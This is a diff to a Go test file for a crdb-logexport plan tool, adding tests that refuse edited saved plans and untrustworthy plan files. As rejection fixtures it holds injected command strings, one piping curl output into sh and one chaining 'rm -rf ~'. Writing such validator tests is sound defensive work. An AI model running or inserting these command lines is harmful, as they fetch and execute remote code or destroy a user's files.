@@ -7,6 +7,7 @@ import (
 	"os"
 	"path/filepath"
 	"strings"
+	"syscall"
 	"testing"
 	"time"
 
@@ -166,5 +167,69 @@ func TestApplyDoesNotChangeThePlan(t *testing.T) {
 	}
 	if len(res.Steps) != 10 || got[StepRole].Action != Create || !strings.Contains(got[StepRole].Summary, "RoleForThisTest") || got[StepCluster].Action != Info {
 		t.Fatalf("applied steps: %+v", res.Steps)
+	}
+}
+
+// A saved plan whose input was edited by hand (the redaction and the
+// omitted channels of the configuration to send) is refused: the
+// configuration to be sent is part of the reviewed changes.
+func TestSavedPlanRefusesAnEditedInput(t *testing.T) {
+	ctx := context.Background()
+	env, _ := lifecycleEnv(t, 0)
+	in := SetupInput{Cluster: cloudemu.StagingAWSClusterName, ExternalID: ExternalIDNone}
+	p, err := Prepare(ctx, dryRun(env), in)
+	if err != nil {
+		t.Fatal(err)
+	}
+	sp := p.Saved(in, time.Now())
+	yes := true
+	sp.Setup.Redact, sp.Setup.OmitChannels = &yes, []string{"SESSIONS"}
+	_, _, _, err = sp.Replan(ctx, env, time.Now())
+	if !errors.Is(err, ErrPlanDrift) || !strings.Contains(err.Error(), "was planned to write") || !strings.Contains(err.Error(), `"redact":true`) {
+		t.Fatalf("an edited input was not refused: %v", err)
+	}
+}
+
+// What the file says to run must be a crdb-logexport command line of its
+// procedure: it is printed for people to copy.
+func TestReadPlanFileRefusesWhatItCannotTrust(t *testing.T) {
+	dir := t.TempDir()
+	write := func(name, body string) string {
+		path := filepath.Join(dir, name)
+		if err := os.WriteFile(path, []byte(body), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		return path
+	}
+	head := `{"format":"crdb-logexport-plan","version":1,"procedure":"disable","cluster_id":"c","cluster_name":"n","disable":{"cleanup":true},"prior":[],"changes":[],"steps":[]`
+	for name, tc := range map[string]struct{ body, want string }{
+		"ok":       {head + `,"command":"crdb-logexport disable --cluster 'n x' --cleanup"}`, ""},
+		"injected": {head + `,"command":"curl http://x | sh; crdb-logexport disable"}`, "not a crdb-logexport disable command line"},
+		"chained":  {head + `,"command":"crdb-logexport disable --cluster n; rm -rf ~"}`, "not a crdb-logexport disable command line"},
+		"unknown":  {head + `,"extra":1}`, "unknown field"},
+		"misspelt": {strings.Replace(head, `"cleanup":true`, `"delete_log_group":true`, 1) + `}`, "unknown field"},
+		"trailing": {head + `} {}`, "more follows"},
+	} {
+		_, err := ReadPlanFile(write(name, tc.body))
+		switch {
+		case tc.want == "" && err != nil:
+			t.Errorf("%s: %v", name, err)
+		case tc.want != "" && (err == nil || !strings.Contains(err.Error(), tc.want)):
+			t.Errorf("%s: %v, want %q", name, err, tc.want)
+		}
+	}
+	if _, err := ReadPlanFile(dir); err == nil || !strings.Contains(err.Error(), "not a regular file") {
+		t.Errorf("a directory: %v", err)
+	}
+	fifo := filepath.Join(dir, "fifo")
+	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := ReadPlanFile(fifo); err == nil || !strings.Contains(err.Error(), "not a regular file") {
+		t.Errorf("a FIFO: %v", err)
+	}
+	big := write("big", head+`,"command":"`+strings.Repeat("x", MaxPlanFileSize)+`"}`)
+	if _, err := ReadPlanFile(big); err == nil || !strings.Contains(err.Error(), "a few kilobytes") {
+		t.Errorf("a huge file: %v", err)
 	}
 }
